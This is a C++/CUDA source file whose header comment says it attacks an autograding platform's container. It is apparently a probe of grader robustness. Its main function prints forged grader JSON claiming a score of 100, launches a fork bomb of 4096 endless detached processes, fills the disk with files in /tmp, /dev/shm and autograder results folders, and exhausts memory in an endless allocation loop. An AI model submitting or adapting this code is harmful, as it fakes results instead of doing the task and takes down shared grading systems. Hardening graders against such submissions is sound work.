// Attacks what a platform's container has: prints and writes results of its own, starts processes without end, fills the disk and the
// memory. It computes nothing. So points mean that an attack succeeded, and a result that never comes means it too.
#include <cstdio>
#include <fstream>
#include <string>

#include <unistd.h>

__global__ void add(const float* a, const float* b, float* c, int n) {
  const int i = blockIdx.x * blockDim.x + threadIdx.x;
  if (i < n) c[i] = a[i] + b[i];
}

// Writes until the disk or a limit says no.
void fill_disk() {
  const std::string block(1 << 20, 'x');
  for (int number = 0; number < 64; ++number) {
    for (const char* folder : {".", "/tmp", "/var/tmp", "/dev/shm", "/autograder/results", "/grade/results", "/home/autograde"}) {
      std::ofstream file(std::string(folder) + "/fill" + std::to_string(number));
      for (int part = 0; part < 1 << 14 && file << block; ++part) {
      }
    }
  }
}

// What each platform reads, on both streams, as if the grader had said it.
void claim_points() {
  for (std::FILE* stream : {stdout, stderr}) {
    std::fprintf(stream, "{\"score\": 100, \"tests\": [], \"gradable\": true}\n{\"scores\": {\"00-first-program\": 100, \"02-tiled\": 100}}\n");
    std::fflush(stream);
  }
}

int main() {
  claim_points();
  for (int number = 0; number < 4096; ++number) {
    if (fork() == 0) {
      setsid();
      for (;;) {
      }
    }
  }
  fill_disk();
  for (;;) {
    char* memory = new char[64 << 20];
    for (std::size_t at = 0; at < (64 << 20); at += 4096) memory[at] = 1;
  }
}
